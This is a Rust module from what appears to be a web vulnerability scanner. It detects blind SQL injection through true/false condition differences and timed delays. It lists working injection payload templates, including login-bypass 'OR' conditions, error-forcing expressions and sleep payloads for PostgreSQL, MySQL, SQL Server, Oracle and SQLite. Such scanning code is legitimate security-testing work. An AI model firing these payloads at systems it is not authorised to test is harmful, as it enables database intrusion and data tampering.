//! SQL by its effect alone: conditions, and waiting.

use crate::checks::injection::choice::{CONDITIONS, Choice};
use crate::checks::injection::facts::Facts;
use crate::checks::{Bench, Entry};
use crate::http::Method;
use crate::point::{Place, Point};
use crate::proof::Proof;

/// Conditions without the signs that filters for markup take away.
const EQUAL: ([&str; 2], [&str; 2]) = (["37=37", "NOT 37=73"], ["37=73", "NOT 37=37"]);

/// Where a value may stand, as what is put in for a condition `{c}`; `{v}` is the usual value.
fn places(point: &Point) -> Vec<&'static str> {
    let value = point.value.trim();
    let is_number = value.parse::<f64>().is_ok();
    let is_name =
        !value.is_empty() && value.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.'));
    let name = point.name.to_ascii_lowercase();
    let sorts = ["sort", "order", "dir", "col", "by", "group"].iter().any(|word| name.contains(word));
    let numbers =
        ["(CASE WHEN {c} THEN {v} ELSE 0-1 END)", "{v} AND {c}", "{v}) AND ({c}", "{v}/**/AND/**/{c}"];
    let strings = [
        "{v}'||(CASE WHEN {c} THEN '' ELSE 'zq' END)||'",
        "{v}' AND {c} AND 'a' LIKE 'a",
        "{v}%' AND {c} AND 'a' LIKE 'a",
        "{v}\" AND {c} AND \"a\" LIKE \"a",
        "{v}' AND {c}-- ",
        "{v}') AND {c}-- ",
        "{v}'/**/AND/**/{c}/**/AND/**/'a'/**/LIKE/**/'a",
    ];
    let orders = [
        "(CASE WHEN {c} THEN {v} ELSE NULL END)",
        "{v},(CASE WHEN {c} THEN 1 ELSE abs(-9223372036854775807-1) END)",
        "{v},(SELECT 1/(CASE WHEN {c} THEN 1 ELSE 0 END))",
        "(CASE WHEN {c} THEN 1 ELSE abs(-9223372036854775807-1) END) {v}",
    ];
    let mut list: Vec<&str> = Vec::new();
    if is_number {
        list.extend(numbers);
    }
    if sorts && is_name {
        list.extend(orders);
    }
    list.extend(strings);
    if is_name && !sorts && !is_number {
        list.extend(orders.iter().take(1));
    }
    list
}

/// Conditions that add rows: for values that match none, as on a form for signing in.
const ADDING: &[&str] = &[
    "{v}zq' OR {c}-- ",
    "{v}zq' OR {c} OR 'a' LIKE 'b",
    "{v}zq') OR {c}-- ",
    "{v}zq\" OR {c}-- ",
    "0-1 OR {c}",
    "{v}zq%' OR {c} OR 'a' LIKE 'b",
    "{v}zq')) OR {c}-- ",
    "0-1) OR ({c}",
    "{v}'/**/OR/**/{c}--\t",
    "{v}zq' oR {c}#",
];

/// Conditions whose failure is an error that shows as one.
const FAILING: &[&str] = &[
    "{v}'||(CASE WHEN {c} THEN 1 ELSE abs(-9223372036854775807-1) END)||'",
    "{v}'||(1/(CASE WHEN {c} THEN 1 ELSE 0 END))||'",
    "{v}' AND 1=(CASE WHEN {c} THEN 1 ELSE (SELECT 1 UNION SELECT 2) END) AND 'a' LIKE 'a",
];

/// Proves a difference between conditions.
pub(super) async fn by_choice(
    bench: &Bench<'_>,
    entry: &Entry,
    (point, known): (&Point, &Facts),
) -> Option<(String, Proof)> {
    let is_quiet = known.is_quiet();
    let narrowing = if is_quiet { Vec::new() } else { places(point) };
    let adding = if changes(entry) { &[] } else { ADDING };
    // Where quotes that don't fit make no difference, an error shows as little.
    let failing = if known.breaks { FAILING } else { &[] };
    let list: Vec<&str> = narrowing.iter().chain(adding).chain(failing).copied().collect();
    for template in &list {
        // What fails on purpose is answered like a plain word where it does not fail.
        let fails = ["abs(", "1/(", "UNION SELECT"].iter().any(|word| template.contains(word));
        let beside = (!fails).then_some(known);
        if let Some(found) = choose(bench, entry, (point, beside), template, CONDITIONS).await {
            return Some(found);
        }
    }
    if is_quiet {
        return None;
    }
    for template in list.iter().take(4) {
        if let Some(found) = choose(bench, entry, (point, Some(known)), template, EQUAL).await {
            return Some(found);
        }
    }
    None
}

async fn choose(
    bench: &Bench<'_>,
    entry: &Entry,
    (point, beside): (&Point, Option<&Facts>),
    template: &str,
    conditions: ([&str; 2], [&str; 2]),
) -> Option<(String, Proof)> {
    let choice = Choice::of(conditions, |condition| {
        let value = template.replace("{c}", condition).replace("{v}", &point.value);
        (entry.request.with(point, &value), value)
    });
    match beside {
        Some(known) => choice.prove_beside(bench, entry, (point, known)).await,
        None => choice.prove(bench, entry).await,
    }
}

/// Whether a request looks as if it changed rows: a condition that adds rows could then change all of them.
fn changes(entry: &Entry) -> bool {
    let words =
        ["delete", "remove", "update", "edit", "save", "drop", "reset", "purge", "cancel", "change", "set"];
    let names = entry.request.points().into_iter().map(|point| point.name);
    let path = entry.request.url.path.to_ascii_lowercase();
    let text = names.fold(path, |text, name| format!("{text} {}", name.to_ascii_lowercase()));
    let mut parts = text.split(|letter: char| !letter.is_ascii_alphanumeric());
    entry.request.method != Method::Get && parts.any(|part| words.contains(&part))
}

/// What waits within a string, in each database's own way; `{t}` are seconds.
pub(super) const STRINGS: [&str; 5] = [
    "{v}'||(SELECT pg_sleep({t}))::text||'",
    "{v}'+(SELECT zr FROM (SELECT SLEEP({t}) AS zr)zq)+'",
    "{v}';SELECT pg_sleep({t})-- ",
    "{v}';WAITFOR DELAY '0:0:{t}'-- ",
    "{v}'||(WITH RECURSIVE zq(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM zq LIMIT 1+{t}*6000000) SELECT substr('',count(*)) FROM zq)||'",
];

/// The same, one for each database.
pub(super) const LOGGED: [&str; 4] = [STRINGS[0], STRINGS[1], STRINGS[3], STRINGS[4]];

/// What waits, in each database's own way; `{t}` are seconds.
pub(super) fn waiting(point: &Point, known: &Facts) -> Vec<&'static str> {
    let strings = STRINGS;
    let numbers = [
        "{v}-(SELECT 0 FROM (SELECT pg_sleep({t}))zq)",
        "{v}-(SELECT zr FROM (SELECT SLEEP({t}) AS zr)zq)",
        "{v};SELECT pg_sleep({t})-- ",
        "{v};WAITFOR DELAY '0:0:{t}'-- ",
        "{v}-(WITH RECURSIVE zq(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM zq LIMIT 1+{t}*6000000) SELECT 0*count(*) FROM zq)",
    ];
    let rare = [
        "{v}'||(SELECT DBMS_PIPE.RECEIVE_MESSAGE('zq',{t}) FROM DUAL)||'",
        "{v}');SELECT pg_sleep({t})-- ",
        "{v}\"+(SELECT zr FROM (SELECT SLEEP({t}) AS zr)zq)+\"",
    ];
    let is_number = point.value.trim().parse::<f64>().is_ok();
    if matches!(point.place, Place::Header | Place::Path(_)) && !is_number {
        return strings.to_vec();
    }
    let mut list: Vec<&str> = if is_number { numbers.to_vec() } else { Vec::new() };
    if known.matters {
        // Conditions have been tried: what is left is one way for each database.
        list.extend(LOGGED);
        return list;
    }
    list.extend(strings);
    if known.echoes {
        return list;
    }
    list.extend(rare);
    if !is_number {
        list.push("(SELECT 1 FROM (SELECT pg_sleep({t}))zq)");
    }
    list
}
